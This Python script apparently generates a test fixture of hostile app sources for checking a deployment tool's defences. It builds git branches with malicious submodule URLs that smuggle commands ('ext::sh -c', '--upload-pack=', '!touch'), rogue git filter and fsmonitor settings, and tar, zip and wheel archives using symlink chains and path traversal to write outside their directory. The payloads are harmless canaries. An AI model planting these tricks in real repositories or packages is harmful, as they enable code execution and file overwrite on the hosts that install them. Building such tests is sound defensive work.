"""Makes what the hostile app's author publishes: a git repository with a branch for each attack, archives, wheels.

`generate.py DIRECTORY` on the controller. DIRECTORY/outside.tar.gz goes to the hosts, DIRECTORY/sources stays here.
"""

import hashlib
import io
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ENV = {"PATH": os.environ["PATH"], "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
for who in ("AUTHOR", "COMMITTER"):
    ENV.update({f"GIT_{who}_NAME": "Alpha", f"GIT_{who}_EMAIL": "alpha@example.com"})
    ENV[f"GIT_{who}_DATE"] = "2026-01-01T00:00:00Z"
ALPHA = {path.name: path.read_text(encoding="utf-8") for path in (HERE / "alpha").glob("*.py")}
SERVER = "http://127.0.0.1:8098"
NOBODY = "1" * 40  # a commit that is nowhere
SYM, HARD, FIFO, CHAR, BLOCK = tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE


class Link(str):
    """A symbolic link, by its target."""


class Submodule(str):
    """A commit."""


def git(*arguments: str, at: Path) -> str:
    done = subprocess.run(["git", *arguments], cwd=at, env=ENV, check=False, capture_output=True, text=True)
    if done.returncode:
        sys.exit(f"git {' '.join(arguments)}: {done.stderr}")
    return done.stdout.strip()


def lay(top: Path, tree: dict) -> None:
    for name, content in tree.items():
        path = top / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link):
            path.symlink_to(content)
        elif not isinstance(content, Submodule):
            path.write_text(content, encoding="utf-8", newline="")


def repository(bare: Path, branches: dict[str, dict]) -> str:
    """A bare repository whose branches have these trees; the commit of the last one."""
    git("init", "--quiet", "--bare", "--initial-branch", "main", str(bare), at=bare.parent)
    commit = ""
    for branch, tree in branches.items():
        work = bare.parent / (bare.name + ".work")
        work.mkdir()
        git("init", "--quiet", "--initial-branch", branch, at=work)
        lay(work, tree)
        git("add", "--all", "--force", at=work)
        for name, content in tree.items():
            if isinstance(content, Submodule):
                git("update-index", "--add", "--cacheinfo", f"160000,{content},{name}", at=work)
        git("commit", "--quiet", "--message", branch, at=work)
        commit = git("rev-parse", "HEAD", at=work)
        git("push", "--quiet", str(bare), branch, at=work)
        shutil.rmtree(work)
    return commit


def module(url: str, name: str = "x", more: str = "") -> str:
    return f'[submodule "{name}"]\n\tpath = {name}\n\turl = "{url}"\n{more}'


def wheel(path: Path, name: str, files: dict[str, str]) -> None:
    info = f"{name}-1.0.dist-info"
    with zipfile.ZipFile(path, "w") as archive:
        for file, content in {
            **files,
            f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
            f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            f"{info}/RECORD": "",
        }.items():
            archive.writestr(zipfile.ZipInfo(file, (2026, 1, 1, 0, 0, 0)), content)


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", content: bytes = b"", mode: int = 0o644) -> tuple:
    item = tarfile.TarInfo(name)
    item.type, item.linkname, item.size, item.mode = kind, link, len(content), mode
    return item, content


def device(name: str, kind: bytes, major: int, minor: int) -> tuple:
    item, content = member(name, kind, mode=0o666)
    item.devmajor, item.devminor = major, minor
    return item, content


def tar(path: Path, *members: tuple) -> None:
    with tarfile.open(path, "w:gz") as archive:
        sources = [member(name, content=content.encode()) for name, content in ALPHA.items()]
        for item, content in [*sources, member("requirements.txt"), *members]:
            archive.addfile(item, io.BytesIO(content) if item.isreg() else None)


def archives(top: Path) -> None:
    # Each name and each target lies inside by its letters; followed one after the other they lead to the top.
    chain = [member("a", SYM, "."), member("a/b", SYM, ".."), member("c0", SYM, "b/..")]
    chain += [member(f"c{number}", SYM, f"c{number - 1}/..") for number in range(1, 9)]
    tar(
        top / "chain.tar.gz",
        *chain,
        member("c8/etc/cron.d/chained", content=b"# chained\n"),
        member("c8/opt/victim/chained", content=b"x", mode=0o4755),
    )
    tar(top / "link-out.tar.gz", member("d", SYM, "../../../../../opt/victim"), member("d/linked", content=b"x"))
    tar(
        top / "replaced.tar.gz",
        member("d/e", content=b"x"),
        member("d", SYM, "/opt/victim"),
        member("d/e", content=b"x"),
    )
    tar(
        top / "hard-link.tar.gz",
        member("h", SYM, "."),
        member("hard", HARD, "h/../../../../../opt/victim/secret"),
        member("hard2", HARD, "/opt/victim/secret"),
    )
    tar(
        top / "devices.tar.gz",
        device("static/null", CHAR, 1, 3),
        device("static/disk", BLOCK, 8, 0),
        member("static/fifo", FIFO),
        member("static/x", content=b"x"),
    )
    tar(
        top / "odd.tar.gz",
        member("static/setuid", content=b"#!/bin/sh\n", mode=0o6755),
        member("static/a\nb", content=b"x"),
        member("-rf", content=b"x"),
        member("static/--help\x1b]0;owned\x07", content=b"x"),
        member("static/sticky", tarfile.DIRTYPE, mode=0o7777),
    )
    with zipfile.ZipFile(top / "traversal.zip", "w") as file:
        for name, content in ALPHA.items():
            file.writestr(name, content)
        file.writestr("requirements.txt", "")
        link = zipfile.ZipInfo("z")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/opt/victim")
        file.writestr("z/zipped", "x")
    with zipfile.ZipFile(top / "dots.zip", "w") as file:
        file.writestr("requirements.txt", "")
        file.writestr("../../../../../../opt/victim/dots", "x")
    wheel(
        top / "leadsout-1.0-py3-none-any.whl",
        "leadsout",
        {
            "leadsout.py": "",
            "../../../../../../../../opt/victim/wheel": "x",
            "/opt/victim/absolute": "x",
            "leadsout-1.0.data/data/../../../../../../../opt/victim/data": "x",
            "leadsout-1.0.data/scripts/../../../../../../opt/victim/script": "#!python\n",
        },
    )


HOSTILE_FILES = {
    "pyproject.toml": (
        '[project]\nname = "alpha"\nversion = "1.0"\ndependencies = ["victimlib==1.0"]\n'
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    ),
    # Settings of tools that somebody might start here.
    "uv.toml": f'python-install-mirror = "{SERVER}/mirror"\n',
    "pip.conf": f"[global]\nindex-url = {SERVER}/pip.conf\n",
    ".python-version": "/srv/alpha/shared/python\n",
    "sitecustomize.py": "import probe\nprobe.report('sitecustomize', **probe.identity())\n",
    ".gitattributes": "* filter=evil diff=evil merge=evil\n*.css ident export-subst\n",
    ".lfsconfig": f'[lfs]\n\turl = "{SERVER}/lfs"\n',
    ".gitconfig": '[filter "evil"]\n\tsmudge = touch /opt/victim/filter\n[core]\n\tfsmonitor = touch /opt/victim/x\n',
}


def branches(locked: str, library: str) -> dict[str, dict]:
    """Trees of the repository of alpha, by attack."""
    base = {**ALPHA, "requirements.txt": "", "static/site.css": "alpha\n", "app/static/site.css": "alpha\n"}
    hostile = {**ALPHA, "static/site.css": "alpha\n", **HOSTILE_FILES}
    bare = {**ALPHA, "requirements.txt": ""}
    caches = {}
    for minor in (11, 13):
        caches[f"c{minor}/by_alpha.py"] = "x = 1\n"
        caches[f"c{minor}/__pycache__"] = Link(f"/usr/lib/python3.{minor}/__pycache__")

    def submodule(url: str, commit: str = NOBODY, **options: str) -> dict:
        return {**base, "x": Submodule(commit), ".gitmodules": module(url, **options)}

    return {
        "main": {**base, "requirements.txt": locked},
        "build": hostile,
        "python": {**hostile, "replace-python": ""},
        "secrets": {**hostile, "say-secrets": ""},
        # After them, honest: another environment, with the package whose unpacked files were changed, and its hash.
        "after": {
            **base,
            **{f"swap/{number:03}/file": "x\n" for number in range(150)},
            "requirements.txt": "# after\n" + locked,
        },
        "plain": base,
        "static-link": {**bare, "app/static": Link("/srv/beta/current")},
        "static-parent": {**bare, "app": Link("/opt/victim/tree")},
        "static-inner": {**base, "app/static/victim": Link("/opt/victim/tree")},
        "static-file": {**base, "app/static/env": Link("/srv/beta/current/env")},
        "static-up": {**base, "app/static/up": Link("../../..")},
        "pycache": {**base, **caches},
        "pycache-beta": {**base, "c/by_alpha.py": "x = 1\n", "c/__pycache__": Link("/srv/beta/shared/uploads")},
        "subdirectory": {**base, "sub": Link("/srv/beta/current/src")},
        "upload-link": {**base, "uploads": Link("/srv/beta/shared/uploads")},
        "file-links": {
            **base,
            "requirements.txt": Link("/opt/victim/readable"),
            "pyproject.toml": Link("/opt/victim/secret"),
        },
        "ext": submodule("ext::sh -c touch% /opt/victim/ext"),
        "option": submodule("--upload-pack=touch /opt/victim/option"),
        "command": submodule(f"{SERVER}/git/lib.git", library, more="\tupdate = !touch /opt/victim/update\n"),
        "file": submodule("file:///srv/beta/repository.git", library),
        "local": submodule("/srv/beta/repository.git", library),
        # Another host by its name and port, where the key of the source would be let in.
        "ssh": submodule("ssh://git@localhost:2222/srv/outside/git/lib.git", library),
        "missing": submodule("../missing.git"),
        "private": submodule(f"{SERVER}/git/beta.git"),
    }


def honest(library: str) -> dict:
    """The tree of beta: with what honest sources have."""
    return {
        "main.py": (HERE / "beta.py").read_text(encoding="utf-8"),
        "requirements.txt": "",
        "README.txt": "one\ntwo\n",
        ".gitattributes": "*.txt text eol=crlf\n",
        "lib": Submodule(library),
        ".gitmodules": module("../lib.git", "lib"),
        "node_modules/tool/cli.js": "#!/usr/bin/env node\n",
        "node_modules/.bin/tool": Link("../tool/cli.js"),
        "tests/data/dangling": Link("not-there"),
        "tests/data/absolute": Link("/nonexistent/file"),
        "static/v1/site.css": "body { color: green }\n",
        "static/current.css": Link("v1/site.css"),
    }


def main(top: Path) -> None:
    shutil.rmtree(top, ignore_errors=True)
    outside, sources = top / "outside", top / "sources"
    for directory in (outside / "git", outside / "index", sources):
        directory.mkdir(parents=True)
    for name in ("server.py", "canaries.py", "watch.py"):
        shutil.copy(HERE / name, outside)
    victimlib = outside / "index/victimlib-1.0-py3-none-any.whl"
    wheel(victimlib, "victimlib", {"victimlib.py": "POISONED = False\n"})
    locked = f"victimlib==1.0 --hash=sha256:{hashlib.sha256(victimlib.read_bytes()).hexdigest()}\n"
    library = repository(outside / "git/lib.git", {"main": {"lib.py": "LIB = 'submodule'\n"}})
    repository(outside / "git/beta.git", {"main": honest(library)})
    repository(outside / "git/alpha.git", branches(locked, library))
    archives(sources)
    with tarfile.open(top / "outside.tar.gz", "w:gz") as archive:
        archive.add(outside, arcname=".")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
